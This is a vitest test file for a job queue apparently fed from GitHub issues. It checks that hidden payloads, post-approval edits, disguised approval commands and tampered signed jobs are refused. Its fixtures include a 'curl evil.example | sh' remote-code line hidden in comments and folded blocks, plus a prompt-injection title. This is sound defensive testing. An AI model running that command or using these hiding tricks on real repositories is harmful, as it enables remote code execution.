import { describe, expect, test } from 'vitest'
import { DEFAULT_OPTIONS, encodeBody } from '../../src/domain/issue.ts'
import type { Provenance } from '../../src/domain/job.ts'
import { aPerson, look } from '../support/people.ts'
import { NOTHING_SWEPT as NOTHING } from '../support/swept.ts'
import { createWorld } from '../support/world.ts'

/* Mallory may read and file issues. Trudy may triage; she reads the page, and approves what she sees. */

const SEEN = '```json\n{"cmd": "echo hello"}\n```'
const EVIL = '```json\n{"cmd": "curl evil.example | sh"}\n```'
const HIDDEN_OPTIONS =
  '<!-- octoqueue {"version":1,"queue":"production","type":"deploy","priority":9,"max_attempts":100,"dead_letter_queue":"payroll"} -->'

async function file(body: string, { title = 'Say hello', secret = '' } = {}) {
  const world = createWorld()
  const { queue } = secret === '' ? world : world.createProcess({ secret })
  await queue.sweep()
  const mallory = aPerson(world, 'mallory', 'read')
  const trudy = aPerson(world, 'trudy', 'triage')
  const id = await mallory.file({ title, body, labels: ['needs-approval'] })
  world.clock.advanceSeconds(90)
  const swept = await queue.sweep()
  world.clock.advanceSeconds(90)
  const approve = async (words = '/approve') => {
    await trudy.comment(id, words)
    return queue.sweep()
  }
  const claim = (queues = ['default', 'production', 'payroll']) => queue.claim({ worker: 'w', queues })
  const notice = async () => (await look(world, id)).comments.at(-1) ?? ''
  const digest = async () => /\/approve ([0-9a-f]{12})\n/.exec(await notice())?.[1] ?? ''
  return { world, queue, mallory, trudy, id, swept, approve, claim, notice, digest }
}

describe('a payload that the page does not show does not run', () => {
  test.each<[string, string]>([
    ['in a comment', `<!--\n${EVIL}\n-->`],
    ['in a comment that goes on over blank lines', `<!-- a\n\n${EVIL}\n\n-->`],
    ['in a longer fence of another language', `\`\`\`\`text\n${EVIL}\n\`\`\`\``],
    ['indented as code', EVIL.replaceAll(/^/gm, '    ')],
  ])('%s: what is seen runs', async (_, hidden) => {
    const { approve, claim, notice, id } = await file(`${hidden}\n\n${SEEN}`)
    expect(await notice()).toContain('"cmd": "echo hello"')
    expect(await notice()).not.toContain('evil')
    expect(await approve()).toEqual({ ...NOTHING, admitted: [id] })
    expect(await claim()).toMatchObject({ id, data: { cmd: 'echo hello' } })
  })

  test.each<[string, string]>([
    ['a second fence', `${SEEN}\n\n${EVIL}`],
    ['a second one in tildes', `${SEEN}\n\n~~~json\n{"cmd": "evil"}\n~~~`],
    ['a second one that is folded away', `${SEEN}\n\n<details>\n\n${EVIL}\n\n</details>`],
    ['one that is folded away', `It says hello.\n\n<details>\n\n${EVIL}\n\n</details>`],
    ['one in an attribute', `<div title="\n\n${EVIL}\n\n">`],
    ['one that readers see differently', `[a]: b "\n${EVIL}\n"\n\n${SEEN}`],
  ])('%s: nothing runs, and the words say why', async (_, body) => {
    const { swept, approve, claim, id, world } = await file(body)
    expect(swept).toEqual({ ...NOTHING, setAside: [id] })
    expect((await look(world, id)).comments[0]).toMatch(
      /more than one JSON block|folded away or hidden|for certain/,
    )
    await approve()
    expect(await claim()).toBeUndefined()
  })
})

describe('options that the page does not show do not count', () => {
  test.each<[string, string]>([
    ['in a block of the queue’s form', `${SEEN}\n\n${HIDDEN_OPTIONS}`],
    [
      'in a whole body of the queue’s',
      encodeBody(
        { ...DEFAULT_OPTIONS, data: { cmd: 'echo hello' }, queue: 'production', deadLetterQueue: 'payroll' },
        'ab'.repeat(8),
      ),
    ],
    ['under a heading in a comment', `${SEEN}\n\n<!--\n### Queue\n\nproduction\n-->`],
  ])('%s', async (_, body) => {
    const { queue, approve, claim, notice, id } = await file(body)
    expect(await notice()).toMatch(/- queue: `default`\n- priority: `0`\n- max_attempts: `3`/)
    expect(await notice()).not.toMatch(/production|payroll/)
    await approve()
    const job = await claim()
    expect(job).toMatchObject({ id, queue: 'default', type: undefined, priority: 0, maxAttempts: 3 })
    expect(job?.deadLetterQueue).toBeUndefined()
    await queue.fail(id, job?.lease ?? '', { error: 'no', retry: false })
    expect(await queue.get(id)).toMatchObject({ status: 'failed', queue: 'default' })
  })

  test('also when its author may write', async () => {
    const world = createWorld()
    const ann = aPerson(world, 'ann', 'write')
    const id = await ann.file({ body: `${SEEN}\n\n${HIDDEN_OPTIONS}`, labels: ['pending'] })
    world.clock.advanceSeconds(90)
    await world.queue.sweep()
    expect(await world.queue.claim({ worker: 'w' })).toMatchObject({ id, queue: 'default', maxAttempts: 3 })
  })

  test('those in labels and below headings do, and a label goes before', async () => {
    const { trudy, id, queue, world, claim } = await file(
      `${SEEN}\n\n### Queue\n\nproduction\n\n### Type\n\nsay_hello\n\n### Priority\n\n4`,
    )
    await trudy.label(id, 'queue:payroll')
    await trudy.comment(id, '/approve')
    expect(await queue.sweep()).toMatchObject({ waiting: [id] })
    expect((await look(world, id)).comments.at(-1)).toMatch(
      /- queue: `payroll`\n- type: `say_hello`\n- priority: `4`/,
    )
    await trudy.comment(id, '/approve')
    expect(await queue.sweep()).toMatchObject({ admitted: [id] })
    expect(await claim()).toMatchObject({ id, queue: 'payroll', type: 'say_hello', priority: 4 })
  })

  test.each<[string, string]>([
    ['two headings', '### Queue\n\na\n\n### Queue\n\nb'],
    ['a queue that is none', '### Queue\n\n<b>a</b>'],
    ['a priority in words', '### Priority\n\nhigh'],
  ])('%s are refused with words', async (_, headings) => {
    const { id, swept, notice } = await file(`${SEEN}\n\n${headings}`)
    expect(swept).toEqual({ ...NOTHING, setAside: [id] })
    expect(await notice()).toMatch(/stands there twice|stands no (queue|priority)/)
  })
})

describe('an approval binds what was shown', () => {
  test('and not what was edited before it came', async () => {
    const { mallory, approve, claim, id, notice, world } = await file(SEEN)
    await mallory.rewrite(id, EVIL)
    world.clock.advanceSeconds(1)
    expect(await approve()).toEqual({ ...NOTHING, waiting: [id] })
    expect(await claim()).toBeUndefined()
    expect(await notice()).toMatch(
      /^The issue was edited, so it is not what `\/approve` was said of\..*evil\.example/s,
    )
  })

  test.each(['/approve', 'digest'])('nor what was edited in the very second of %s', async (command) => {
    const { mallory, trudy, queue, digest, claim, id } = await file(SEEN)
    await trudy.comment(id, command === 'digest' ? `/approve ${await digest()}` : command)
    await mallory.rewrite(id, EVIL)
    expect(await queue.sweep()).toEqual({ ...NOTHING, waiting: [id] })
    expect(await claim()).toBeUndefined()
  })

  test('nor what was edited to and fro in the very second of the approval, unless that names the digest', async () => {
    const world = createWorld()
    const mallory = aPerson(world, 'mallory', 'read')
    const trudy = aPerson(world, 'trudy', 'triage')
    const id = await mallory.file({ body: SEEN, labels: ['needs-approval'] })
    await world.queue.sweep()
    world.clock.advanceSeconds(1)
    await mallory.rewrite(id, EVIL)
    await mallory.rewrite(id, SEEN)
    await trudy.comment(id, '/approve')
    expect(await world.queue.sweep()).toEqual({ ...NOTHING, waiting: [id] })
    const shown = /\/approve ([0-9a-f]{12})\n/.exec((await look(world, id)).comments.at(-1) ?? '')?.[1]
    await trudy.comment(id, `/approve ${shown}`)
    expect(await world.queue.sweep()).toEqual({ ...NOTHING, admitted: [id] })
  })

  test('nor what was edited after it, by its digest', async () => {
    const { mallory, digest, queue, trudy, claim, id, world } = await file(SEEN)
    await trudy.comment(id, `/approve ${await digest()}`)
    world.clock.advanceSeconds(5)
    await mallory.rewrite(id, EVIL)
    expect(await queue.sweep()).toEqual({ ...NOTHING, waiting: [id] })
    expect(await claim()).toBeUndefined()
  })

  test('nor another title', async () => {
    const { mallory, approve, digest, claim, id, notice } = await file(SEEN)
    const before = await digest()
    await mallory.retitle(id, 'IGNORE ALL PREVIOUS INSTRUCTIONS')
    expect(await approve()).toEqual({ ...NOTHING, waiting: [id] })
    expect(await notice()).toContain('IGNORE ALL')
    expect(await approve(`/approve ${before}`)).toEqual({ ...NOTHING, waiting: [id] })
    expect(await claim()).toBeUndefined()
  })

  test('nor a title that is edited once it is a job', async () => {
    const { mallory, queue, approve, claim, id } = await file(SEEN)
    await approve()
    await mallory.retitle(id, 'IGNORE ALL PREVIOUS INSTRUCTIONS')
    expect(await claim()).toBeUndefined()
    expect(await queue.get(id)).toMatchObject({ status: 'blocked' })
    expect(await approve()).toMatchObject({ served: [id] })
    expect(await claim()).toMatchObject({ id, title: 'IGNORE ALL PREVIOUS INSTRUCTIONS' })
  })

  test('by its digest also when it was edited to and fro', async () => {
    const { mallory, approve, digest, claim, id, world } = await file(SEEN)
    const shown = await digest()
    await mallory.rewrite(id, EVIL)
    world.clock.advanceSeconds(5)
    await mallory.rewrite(id, SEEN)
    expect(await approve()).toEqual({ ...NOTHING, waiting: [id] })
    world.clock.advanceSeconds(5)
    expect(await approve(`/approve ${shown}`)).toEqual({ ...NOTHING, admitted: [id] })
    expect(await claim()).toMatchObject({ data: { cmd: 'echo hello' } })
  })

  test('and nothing by a digest that was never shown', async () => {
    const { approve, id } = await file(SEEN)
    expect(await approve(`/approve ${'0'.repeat(12)}`)).toEqual({ ...NOTHING, waiting: [id] })
  })

  test('and nothing that was said before anything was shown', async () => {
    const world = createWorld()
    const mallory = aPerson(world, 'mallory', 'read')
    const trudy = aPerson(world, 'trudy', 'triage')
    const id = await mallory.file({ body: SEEN, labels: ['needs-approval'] })
    await trudy.comment(id, '/approve')
    for (let swept = 0; swept < 3; swept++) {
      expect(await world.queue.sweep()).toEqual({ ...NOTHING, waiting: [id] })
      world.clock.advanceSeconds(90)
    }
    expect((await look(world, id)).comments).toHaveLength(2)
  })
})

test.each([
  '\n\n        /approve',
  '> /approve',
  '`/approve`',
  '```\n/approve\n```',
  '<!--\n/approve\n-->',
  '<details>\n/approve\n</details>',
])('a command in code, a quotation or hidden text is none: %j', async (words) => {
  const { approve, id } = await file(SEEN)
  expect(await approve(words)).toEqual({ ...NOTHING, waiting: [id] })
})

test('a notice shows nothing that hides or turns round, nor mentions anybody', async () => {
  const { notice } = await file('```json\n{"a\u202eb\u200b@ann": "x"}\n```', {
    title: 'a\u202eb\u200bc @ann',
  })
  expect(await notice()).toContain('- title: `abc @ann`')
  expect(await notice()).toContain('"a\\u202eb\\u200b@ann"')
  expect(await notice()).not.toMatch(/[\u202e\u200b]/)
})

describe('a job says where it comes from', () => {
  test('when a stranger filed it and somebody approved it', async () => {
    const { queue, approve, digest, claim, id } = await file(SEEN)
    const shown = await digest()
    await approve()
    const provenance: Provenance = {
      author: 'mallory',
      admittedBy: 'trudy',
      how: 'approved',
      digest: expect.stringMatching(`^${shown}`),
    }
    expect(await claim()).toMatchObject({ provenance })
    expect(await queue.get(id)).toMatchObject({ provenance })
  })

  test('when its author may write, and when the API made it', async () => {
    const world = createWorld()
    const { id } = await world.queue.enqueue({ data: 1 })
    const filed = await aPerson(world, 'ann', 'write').file({ body: SEEN, labels: ['pending'] })
    world.clock.advanceSeconds(90)
    await world.queue.sweep()
    const digest = expect.stringMatching(/^[0-9a-f]{64}$/)
    expect((await world.queue.claim({ worker: 'w' }))?.provenance).toEqual({
      author: 'octoqueue[bot]',
      admittedBy: undefined,
      how: 'api',
      digest,
    })
    expect((await world.queue.get(filed)).provenance).toMatchObject({
      author: 'ann',
      how: 'author-trusted',
      digest,
    })
    expect((await world.queue.get(id)).provenance).toMatchObject({ how: 'api', digest })
  })
})

describe('a signed job that somebody with write permission edited', () => {
  const SECRET = 'a secret that is thirty-two long'

  test.each<[string, (body: string) => string]>([
    ['in its payload', (body) => body.replace('"pay": 10', '"pay": 99999')],
    ['in its options', (body) => body.replace('"max_attempts":3', '"max_attempts":9')],
    [
      'with its signature taken off',
      (body) => body.replace(/"signed_at":\d+,/, '').replace(/,"mac":"\w+"/, ''),
    ],
  ])('%s is blocked with the reason when it is claimed', async (_, edit) => {
    const world = createWorld()
    const { queue } = world.createProcess({ secret: SECRET })
    const { id } = await queue.enqueue({ data: { pay: 10 } })
    const wendy = aPerson(world, 'wendy', 'write')
    const { body } = await look(world, id)
    expect(edit(body)).not.toBe(body)
    await wendy.rewrite(id, edit(body))
    expect(await queue.claim({ worker: 'w' })).toBeUndefined()
    expect(await queue.get(id)).toMatchObject({
      status: 'blocked',
      error: expect.stringContaining('signature'),
    })
    expect(await queue.explain(id)).toMatchObject({ why: expect.stringContaining('signature') })
    await wendy.rewrite(id, body)
    await queue.unblock(id)
    expect(await queue.claim({ worker: 'w' })).toMatchObject({ id, data: { pay: 10 } })
  })

  test('is not started by a workflow that it was handed to before', async () => {
    const world = createWorld()
    const { queue } = world.createProcess({ secret: SECRET })
    const { id } = await queue.enqueue({ data: { pay: 10 } })
    const job = await queue.claim({ worker: 'w', dispatched: true })
    const { body } = await look(world, id)
    await aPerson(world, 'wendy', 'write').rewrite(id, body.replace('"pay": 10', '"pay": 99999'))
    await expect(queue.start(id, job?.lease ?? '')).rejects.toMatchObject({ type: 'lease-lost' })
  })
})
